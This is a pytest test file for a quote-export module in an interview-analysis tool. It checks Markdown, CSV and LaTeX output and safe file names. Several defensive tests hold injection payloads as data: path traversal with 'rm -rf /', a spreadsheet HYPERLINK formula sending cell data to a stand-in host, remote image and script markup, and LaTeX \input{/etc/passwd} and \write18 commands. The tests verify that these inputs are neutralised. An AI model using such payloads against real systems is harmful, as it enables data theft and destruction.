"""Exported quotes: Markdown block quotes, CSV that parses back, escaped LaTeX, safe files."""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

import pytest

from mlqi_rag.export import (
    CSV_COLUMNS,
    is_safe_export_name,
    latex_escape,
    normalise_format,
    to_csv,
    to_latex,
    to_markdown,
    unique_citations,
    write_export,
)
from mlqi_rag.types import Citation

SRC = "/data/corpus/interview-32-PO.md"


def cite(
    quote: str = "Most of the times we just dropped the record.",
    iv: str = "32",
    turn: int = 14,
    start: int = 100,
    codes: tuple[str, ...] = ("Data-missing-values", "Data-missing-value-fix"),
) -> Citation:
    return Citation(
        interview_id=iv,
        label="PO",
        speaker="Interviewee",
        role="participant",
        turn_index=turn,
        quote=quote,
        source=SRC,
        start=start,
        end=start + len(quote),
        codes=codes,
        verified=True,
    )


TRICKY = 'He said "50% of rows, & the _id_ field" cost $3 #1 {x} ~ ^ \\ <ok> | done, uh, yes.'


# ---- Markdown ------------------------------------------------------------------------------------


def test_markdown_block_quotes_with_attribution() -> None:
    md = to_markdown([cite(), cite("We imputed the median.", iv="35", turn=7, start=500)])
    assert "> Most of the times we just dropped the record." in md
    assert "> — Interview 32, turn 14" in md
    assert "> — Interview 35, turn 7" in md
    # every non-empty line is part of a block quote, quotes separated by a blank line
    blocks = md.strip().split("\n\n")
    assert len(blocks) == 2
    assert all(line.startswith(">") for block in blocks for line in block.splitlines())
    assert "Data-missing-values" in md  # codes travel with the quote


def test_markdown_question_header_and_multiline_quote() -> None:
    md = to_markdown([cite("First paragraph.\n\nSecond paragraph.")], question="  How do  they? ")
    assert md.startswith("**Question:** How do they?\n")
    assert "> First paragraph.\n>\n> Second paragraph.\n" in md


def test_markdown_deduplicates_the_same_span() -> None:
    md = to_markdown([cite(), cite(), cite(start=900)])
    assert md.count("— Interview 32, turn 14") == 2


def test_markdown_empty() -> None:
    assert to_markdown([]).strip() == ""


# ---- CSV -----------------------------------------------------------------------------------------


def test_csv_parses_back_with_columns_and_offsets() -> None:
    cites = [cite(TRICKY), cite("Line one,\nline two", iv="17", turn=3, start=40, codes=())]
    text = to_csv(cites)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert [r["id"] for r in rows] == ["1", "2"]
    first = rows[0]
    assert first["interview"] == "32"
    assert first["label"] == "PO"
    assert first["speaker"] == "Interviewee"
    assert first["turn"] == "14"
    assert first["codes"] == "Data-missing-values; Data-missing-value-fix"
    assert first["quote"] == TRICKY  # verbatim, commas/quotes/newlines survive
    assert first["source"] == "interview-32-PO.md"
    assert int(first["start"]) == 100 and int(first["end"]) == 100 + len(TRICKY)
    assert rows[1]["quote"] == "Line one,\nline two"
    assert rows[1]["codes"] == ""


def test_csv_header_only_when_empty() -> None:
    rows = list(csv.reader(io.StringIO(to_csv([]))))
    assert rows == [list(CSV_COLUMNS)]


# ---- LaTeX ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("#", r"\#"),
        ("$", r"\$"),
        ("%", r"\%"),
        ("&", r"\&"),
        ("_", r"\_"),
        ("{", r"\{"),
        ("}", r"\}"),
        ("~", r"\textasciitilde{}"),
        ("^", r"\textasciicircum{}"),
        ("\\", r"\textbackslash{}"),
    ],
)
def test_latex_escapes_each_special_character(raw: str, escaped: str) -> None:
    assert latex_escape(f"a{raw}b") == f"a{escaped}b"


def test_latex_escaping_is_single_pass() -> None:
    # the backslash's replacement contains braces that must not be escaped again
    assert latex_escape("\\{") == r"\textbackslash{}\{"
    assert latex_escape("plain words, stay.") == "plain words, stay."


def _strip_commands(tex: str) -> str:
    return re.sub(r"\\[a-zA-Z]+\{\}|\\[#$%&_{}]", "", tex)


def test_latex_quote_environment() -> None:
    tex = to_latex([cite(TRICKY, codes=("Data_missing",))])
    assert tex.count(r"\begin{quote}") == 1 and tex.count(r"\end{quote}") == 1
    assert "--- Interview 32, turn 14" in tex
    body = tex.split(r"\begin{quote}", 1)[1].split(r"\end{quote}", 1)[0]
    assert r"50\% of rows, \& the \_id\_ field" in body
    assert r"\$3 \#1 \{x\} \textasciitilde{} \textasciicircum{} \textbackslash{}" in body
    assert r"Data\_missing" in body
    # no unescaped special character is left in the body
    assert not re.search(r"[#$%&_~^]", _strip_commands(body))
    assert "<" not in body and ">" not in body


def test_latex_one_environment_per_quote() -> None:
    tex = to_latex([cite(), cite(start=999), cite(start=999)])
    assert tex.count(r"\begin{quote}") == 2


# ---- files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "ext"), [("markdown", "md"), ("csv", "csv"), ("latex", "tex")])
def test_write_export_safe_name_inside_directory(tmp_path: Path, fmt: str, ext: str) -> None:
    out = tmp_path / "exports"
    path = write_export([cite()], fmt, out, question="../../etc/passwd; rm -rf /")
    assert path.parent == out.resolve()
    assert re.fullmatch(rf"mlqi-quotes-\d{{8}}-\d{{6}}\.{ext}", path.name)
    assert is_safe_export_name(path.name)
    assert "passwd" not in path.name
    assert os.listdir(out) == [path.name]
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == [path]


def test_write_export_content_matches_renderers(tmp_path: Path) -> None:
    cites = [cite(TRICKY)]
    md = write_export(cites, "md", tmp_path, question="Q?")
    assert md.read_text(encoding="utf-8") == to_markdown(cites, "Q?")
    csv_path = write_export(cites, "CSV", tmp_path)
    with open(csv_path, encoding="utf-8", newline="") as fh:
        assert fh.read() == to_csv(cites)
    tex = write_export(cites, "tex", tmp_path)
    assert tex.read_text(encoding="utf-8") == to_latex(cites)


def test_write_export_never_overwrites(tmp_path: Path) -> None:
    now = 1_800_000_000.0
    a = write_export([cite()], "markdown", tmp_path, now=now)
    b = write_export([cite(start=5)], "markdown", tmp_path, now=now)
    c = write_export([cite(start=9)], "markdown", tmp_path, now=now)
    assert len({a, b, c}) == 3
    assert b.name.endswith("-2.md") and c.name.endswith("-3.md")
    assert all(is_safe_export_name(p.name) for p in (a, b, c))
    assert "— Interview 32, turn 14" in a.read_text(encoding="utf-8")


def test_unknown_format_rejected(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        write_export([cite()], "docx", tmp_path)
    assert list(tmp_path.iterdir()) == []
    assert normalise_format(" LaTeX ") == "latex"


@pytest.mark.parametrize(
    "name",
    ["../x.md", "mlqi-quotes-20261123-101500.md/../x", "notes.md", "mlqi-quotes-2026.md", ".md"],
)
def test_safe_name_check_rejects_others(name: str) -> None:
    assert not is_safe_export_name(name)


def test_unique_citations_keeps_order() -> None:
    a, b = cite(start=1), cite(start=2)
    assert unique_citations([b, a, b]) == [b, a]


# ---- safe to open -------------------------------------------------------------------------------

#: Markup a transcript could carry that would fetch or link a remote resource if rendered.
REMOTE = (
    "See ![x](http://127.0.0.9/leak.png) and [docs](http://127.0.0.9/doc) "
    "<img src=http://127.0.0.9/x> <http://127.0.0.9/auto> http://127.0.0.9/bare www.example.org "
    "<script>alert(1)</script> &amp; `code` *bold* _it_ # not a heading"
)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_formula_cells(lead: str) -> None:
    payload = f'{lead}HYPERLINK("http://127.0.0.9/?"&A1,"x")'
    c = Citation(
        interview_id="32", label=payload, speaker=payload, role="participant", turn_index=1,
        quote=payload, source=SRC, start=0, end=len(payload), codes=(payload, "Data"),
    )  # fmt: skip
    row = list(csv.DictReader(io.StringIO(to_csv([c]), newline="")))[0]
    for column in ("label", "speaker", "quote", "codes"):
        assert row[column] == "'" + (payload if column != "codes" else f"{payload}; Data")
    # every cell of every row, header included, starts with something inert
    for cells in csv.reader(io.StringIO(to_csv([c]), newline="")):
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells


def test_csv_leaves_ordinary_cells_alone() -> None:
    row = list(csv.DictReader(io.StringIO(to_csv([cite(TRICKY)]), newline="")))[0]
    assert row["quote"] == TRICKY and row["codes"].startswith("Data-missing-values")


def _rendered(md: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark").render(md))


def test_markdown_export_is_inert() -> None:
    c = Citation(
        interview_id="32", label="<b>PO</b>", speaker="[me](http://127.0.0.9/s)",
        role="participant", turn_index=3, quote=REMOTE, source=SRC, start=0, end=len(REMOTE),
        codes=("![c](http://127.0.0.9/c.png)",),
    )  # fmt: skip
    md = to_markdown([c], question="<img src=http://127.0.0.9/q> [q](http://127.0.0.9/q)")
    html = _rendered(md)
    # only the export's own structure is markup; everything from the transcript is text
    assert set(re.findall(r"<([a-zA-Z][^\s>/]*)", html)) == {"p", "blockquote", "strong"}, html
    assert all(
        tag in ("<p>", "<blockquote>", "<strong>") for tag in re.findall(r"<[a-z][^>]*>", html)
    )
    # no bare URL a GFM renderer would turn into a link
    assert not re.search(r"(?<!\\)://|www\.", md), md
    # what a reader sees is the transcript's text, character for character
    text = re.sub(r"<[^>]+>", "", html)
    import html as htmllib

    assert REMOTE in htmllib.unescape(text).replace("\n", " ")


def test_markdown_escape_round_trips_plain_quotes() -> None:
    md = to_markdown([cite(TRICKY)])
    text = re.sub(r"<[^>]+>", "", _rendered(md))
    import html as htmllib

    assert TRICKY in htmllib.unescape(text)


def test_latex_export_escapes_injection() -> None:
    evil = r"\input{/etc/passwd} \write18{rm -rf /} ^^5cinput $x$ % comment" + REMOTE
    tex = to_latex([cite(evil, codes=(r"\def\x{1}",))])
    body = tex.split(r"\begin{quote}", 1)[1].split(r"\end{quote}", 1)[0]
    assert r"\input" not in body and r"\write18" not in body and r"\def" not in body
    assert "^^" not in body
    assert not re.search(r"[#$%&_~^<>]", _strip_commands(body))


@pytest.mark.parametrize(
    ("name", "fmt"),
    [("out.md", "markdown"), ("a/b/Quotes.MD", "markdown"), ("x.csv", "csv"), ("p.tex", "latex")],
)
def test_format_for_path(name: str, fmt: str) -> None:
    from mlqi_rag.export import format_for_path

    assert format_for_path(name) == fmt
    assert format_for_path(Path(name)) == fmt


@pytest.mark.parametrize("name", ["quotes.docx", "quotes", "quotes.md.bak", "bad\nname.txt"])
def test_format_for_path_rejects_unknown(name: str) -> None:
    from mlqi_rag.errors import MlqiError
    from mlqi_rag.export import format_for_path

    with pytest.raises(MlqiError) as err:
        format_for_path(name)
    message = str(err.value)
    assert "\n" not in message and ".md, .csv or .tex" in message
    assert name.replace("\n", "\\n") in message
